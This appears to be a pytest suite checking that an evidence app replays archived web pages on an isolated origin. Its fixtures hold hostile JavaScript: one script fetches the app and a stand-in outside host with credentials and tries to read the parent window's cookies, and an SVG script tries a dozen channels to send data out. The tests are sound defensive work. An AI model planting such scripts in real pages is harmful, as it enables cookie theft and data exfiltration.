"""Web archives are replayed on an origin of their own, from which the desk cannot be reached."""

import io
import os
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from subprocess import run
from tempfile import TemporaryDirectory
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.test import Client
from playwright.sync_api import Browser, Frame, Page

from netra.doors.capture.running import captured
from netra.doors.desk.viewing import replay
from netra.evidence.capturing import archive
from netra.evidence.models import Item
from tests.doors.capture.sites import CHROMIUM, beside, serving
from tests.doors.desk import viewed
from tests.doors.desk.printing import at_desk
from tests.doors.desk.test_decrees_screen import seated
from tests.harness.browser import OpenPage, axe, fits
from tests.rooms import factories as make
from tests.rooms import path

AT = datetime(2024, 10, 16, 3, 0, tzinfo=UTC)
URL = "https://contoh.example/unggahan"
WORDS = "Kata-kata dari halaman yang diarsipkan"
HOSTILE = """
<script>
(async () => {
  const said = [];
  for (const where of ["%(site)s/meja/", "%(site)s/health/", "https://luar.example/"]) {
    try {
      const answer = await fetch(where, {credentials: "include"});
      said.push(answer.type + " " + answer.status + " " + (await answer.text()).includes("Netra"));
    } catch (error) { said.push("refused"); }
  }
  let desk = "refused";
  try { desk = String(window.top.document.cookie); } catch (error) { desk = "refused"; }
  document.body.dataset.said = said.join("|");
  document.body.dataset.desk = desk;
  document.body.dataset.cookies = document.cookie;
})();
</script>
"""

SENDING = """<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[
const beside = "http://%(beside)s/", socket = "ws://%(beside)s/";
const tag = "http://www.w3.org/1999/xhtml", root = document.documentElement;
function put(name, said) {
  return root.appendChild(Object.assign(document.createElementNS(tag, name), said));
}
const again = `fetch("${beside}").catch(() => 0); new WebSocket("${socket}");`;
for (const way of [
  () => fetch(beside, {mode: "no-cors"}).catch(() => 0),
  () => [new WebSocket(socket), new parent.WebSocket(socket)],
  () => navigator.sendBeacon(beside, "x"),
  () => new EventSource(beside),
  () => { new Image().src = beside; },
  () => put("form", {action: beside, method: "post"}).submit(),
  () => put("link", {rel: "prefetch", href: beside}),
  () => new Worker(URL.createObjectURL(new Blob([again]))),
  () => put("iframe", {src: `data:text/html,<script>${again}</` + "script>"}),
  () => new (put("iframe", {}).contentWindow.WebSocket)(socket),
  () => window.open(beside),
]) { try { way(); } catch (error) { console.log(String(error)); } }
setTimeout(() => root.setAttribute("data-tried", "1"), 1500);
]]></script></svg>"""
"""A drawing is replayed as it is, so its script meets the browser's own doors, not the player's."""


def wacz(body: str, drawing: str = "<svg/>") -> bytes:
    """A web archive of one page and a drawing, as our own capture writes it."""
    out = io.BytesIO()
    page = f"<html><head><title>x</title></head><body><p>{WORDS}</p>{body}</body></html>"
    parts = [
        received(URL, "text/html; charset=utf-8", page),
        received("https://contoh.example/gambar.svg", "image/svg+xml", drawing),
    ]
    archive.write(out, parts, archive.Page(url=URL, at=AT, title="x"), software="a test")
    return out.getvalue()


def received(url: str, kind: str, body: str) -> archive.Received:
    return archive.Received(
        url=url,
        at=AT,
        address="192.0.2.1",
        method="GET",
        request_headers=[("Host", "contoh.example")],
        request_body=b"",
        status=200,
        reason="OK",
        headers=[("Content-Type", kind)],
        body=io.BytesIO(body.encode()),
    )


def made_by_the_peer(body: str) -> bytes:
    """The same page, its archive put together by the wacz project's own tool."""
    with TemporaryDirectory() as folder, zipfile.ZipFile(io.BytesIO(wacz(body))) as parts:
        warc, made = parts.extract("archive/data.warc.gz", folder), Path(folder) / "made.wacz"
        tool = Path(sys.executable).with_name("wacz")
        run([tool, "create", "-o", made, "-f", warc], check=True, capture_output=True)
        return made.read_bytes()


@pytest.fixture
def named(site: str, settings: Any) -> str:
    """The site under a name; browsers that block third parties let siblings keep their storage."""
    settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, "meja.netra.localhost"]
    return site.replace("127.0.0.1", "meja.netra.localhost")


@pytest.fixture
def second(site: str, settings: Any) -> str:
    """The viewer origin: a sibling of the site's."""
    settings.NETRA_VIEWER_ORIGIN = site.replace("127.0.0.1", "lihat.netra.localhost")
    return str(settings.NETRA_VIEWER_ORIGIN)


def archived(content: bytes | None = None, url: str = URL) -> Item:
    kept = wacz("") if content is None else content
    return viewed.kept(path.reported(), kept, "application/wacz", "halaman.wacz", url)


def replayed(page: Page, holding: str = "p") -> Frame:
    """The frame that holds the archived page, once it is there."""
    for _ in range(150):
        for frame in page.frames:
            if "/w/" in frame.url and frame.locator(holding).count():
                return frame
        page.wait_for_timeout(200)
    raise AssertionError([frame.url for frame in page.frames])


@pytest.mark.browser
@pytest.mark.timeout(120)
@pytest.mark.parametrize("width", [360, 1280])
def test_the_archived_page_is_replayed_from_the_other_origin(
    open_page: OpenPage, named: str, second: str, width: int
) -> None:
    item = archived()
    page = open_page(width=width)
    seated(page, named, "caseworker", make.REGENCY)
    page.goto(named + viewed.where(item))
    frame = replayed(page)
    assert WORDS in frame.locator("body").inner_text()
    assert frame.url.startswith(second)
    assert frame.evaluate("document.cookie") == ""
    assert fits(page)
    if kept := os.environ.get("NETRA_PICTURES"):
        page.screenshot(path=f"{kept}/archive-{width}.png", full_page=True)
    if width == 360:
        assert axe(page).violations == []


@pytest.mark.browser
@pytest.mark.timeout(120)
def test_what_our_capture_kept_is_replayed(open_page: OpenPage, named: str, second: str) -> None:
    with serving() as shown:
        told = captured(f"{shown.url}/", browser=CHROMIUM, but=shown.allowed)
        with told as found:
            assert found.archive is not None, found.ending
            item = archived(found.archive.read_bytes(), f"{shown.url}/")
    page = open_page()
    seated(page, named, "caseworker", make.REGENCY)
    page.goto(named + viewed.where(item))
    frame = replayed(page, "h1")
    frame.wait_for_function("document.body.innerText.includes('ditulis skrip')", timeout=60_000)
    assert frame.locator("h1").inner_text() == "Kegiatan warga"
    assert frame.evaluate("document.images[0].naturalWidth") == 1


@pytest.mark.browser
@pytest.mark.timeout(120)
def test_what_another_tool_made_is_replayed(open_page: OpenPage, named: str, second: str) -> None:
    page = open_page()
    seated(page, named, "caseworker", make.REGENCY)
    page.goto(named + viewed.where(archived(made_by_the_peer(""))))
    assert WORDS in replayed(page).locator("body").inner_text()


@pytest.mark.browser
@pytest.mark.timeout(120)
def test_a_hostile_archive_reaches_neither_desk_nor_anybody(
    browser: Browser, named: str, second: str
) -> None:
    item = archived(wacz(HOSTILE % {"site": named}))
    context = browser.new_context(base_url=named)
    page = context.new_page()
    seated(page, named, "caseworker", make.REGENCY)
    page.goto(named + viewed.where(item))
    frame = replayed(page)
    frame.wait_for_selector("body[data-said]", state="attached")
    body = frame.locator("body")
    said = str(body.get_attribute("data-said"))
    assert "true" not in said, said
    assert body.get_attribute("data-desk") in ("", "refused")
    assert body.get_attribute("data-cookies") == ""
    assert page.url.startswith(named)
    names = {cookie["name"] for cookie in context.cookies(second)}
    assert names == set()
    context.close()


@pytest.mark.browser
@pytest.mark.timeout(120)
def test_a_hostile_archive_sends_nothing_out(browser: Browser, named: str, second: str) -> None:
    context = browser.new_context(base_url=named)
    page = context.new_page()
    seated(page, named, "caseworker", make.REGENCY)
    with beside() as neighbour:
        sending = SENDING % {"beside": f"127.0.0.1:{neighbour.port}"}
        item = archived(wacz("<iframe src=gambar.svg></iframe>", sending))
        page.goto(named + viewed.where(item))
        replayed(page, "svg[data-tried]")
        assert neighbour.heard == []
    context.close()


@pytest.mark.browser
def test_without_script_a_copy_is_offered(open_page: OpenPage, named: str, second: str) -> None:
    item = archived()
    page = open_page(script=False)
    seated(page, named, "caseworker", make.REGENCY)
    page.goto(named + viewed.where(item))
    assert "Skrip dimatikan" in page.locator("main").inner_text()
    assert page.locator(f"a[href$='/bukti/{item.id}/']").count()


def on_second(second: str) -> Client:
    return Client(headers={"host": urlsplit(second).netloc})


VIEWER = "http://lihat.contoh.example"


@pytest.fixture
def ticket(settings: Any, db: None) -> str:
    """An archive's address on the viewer origin, its path only."""
    settings.NETRA_VIEWER_ORIGIN = VIEWER
    page: str = viewed.look(at_desk(), archived()).content.decode()
    return page.split('src="' + VIEWER, 1)[1].split('"', 1)[0]


def test_the_viewer_origin_answers_nothing_else(ticket: str) -> None:
    client = on_second(VIEWER)
    for where in ("/", "/meja/", "/health/", "/masuk/", "/static/built/netra.css", "/putar/x/"):
        assert client.get(where).status_code == 404, where
    player = client.get(ticket)
    assert player.status_code == 200
    assert not player.cookies
    assert "frame-ancestors http://testserver" in player["Content-Security-Policy"]
    assert player["Clear-Site-Data"] == '"storage"'
    assert client.get("/putar/alat/sw.js").status_code == 200
    assert client.get("/putar/alat/player.js").status_code == 200
    assert client.get("/putar/alat/other.js").status_code == 404


def test_the_site_itself_does_not_replay(ticket: str) -> None:
    client = at_desk()
    for where in (ticket, ticket + "arsip.wacz", "/putar/alat/sw.js"):
        assert client.get(where).status_code == 404, where


def test_the_archive_is_given_in_ranges_to_the_ticket_alone(ticket: str) -> None:
    client = on_second(VIEWER)
    whole: Any = client.get(ticket + "arsip.wacz")
    content = b"".join(whole.streaming_content)
    assert content[:2] == b"PK"
    part: Any = client.get(ticket + "arsip.wacz", headers={"range": "bytes=-10"})
    assert (part.status_code, b"".join(part.streaming_content)) == (206, content[-10:])
    assert part["Content-Range"] == f"bytes {len(content) - 10}-{len(content) - 1}/{len(content)}"
    beyond = client.get(ticket + "arsip.wacz", headers={"range": f"bytes={len(content)}-"})
    assert beyond.status_code == 416
    wrong = ticket.replace("/putar/", "/putar/x")
    assert client.get(wrong + "arsip.wacz").status_code == 404


def test_an_address_runs_out(ticket: str, monkeypatch: pytest.MonkeyPatch) -> None:
    client = on_second(VIEWER)
    monkeypatch.setattr(replay, "HELD", -1)
    assert client.get(ticket).status_code == 404
    assert client.get(ticket + "arsip.wacz").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize("origin", ["", "http://testserver:8001"])
def test_without_an_origin_of_its_own_a_copy_is_offered(settings: Any, origin: str) -> None:
    settings.NETRA_VIEWER_ORIGIN = origin
    page: str = viewed.look(at_desk(), archived()).content.decode()
    assert "<iframe" not in page
    assert "Arsip web tidak diputar ulang di sini" in page
